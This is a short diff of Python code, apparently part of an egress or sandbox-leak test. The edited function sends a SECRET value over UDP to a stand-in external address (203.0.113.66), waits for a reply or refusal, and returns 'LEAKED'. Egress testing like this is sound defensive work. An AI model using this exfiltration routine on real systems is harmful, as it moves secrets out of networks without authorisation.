@@ -34,9 +34,9 @@ def dns_tunnel():
 def datagram():
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
         s.connect(("203.0.113.66", 9999))
+        s.settimeout(1)
         s.send(SECRET.encode())
-        time.sleep(0.05)
-        s.send(SECRET.encode())  # the refusal of the first arrives here
+        s.recv(1)  # an answer, or the refusal
     return "LEAKED"
 
 
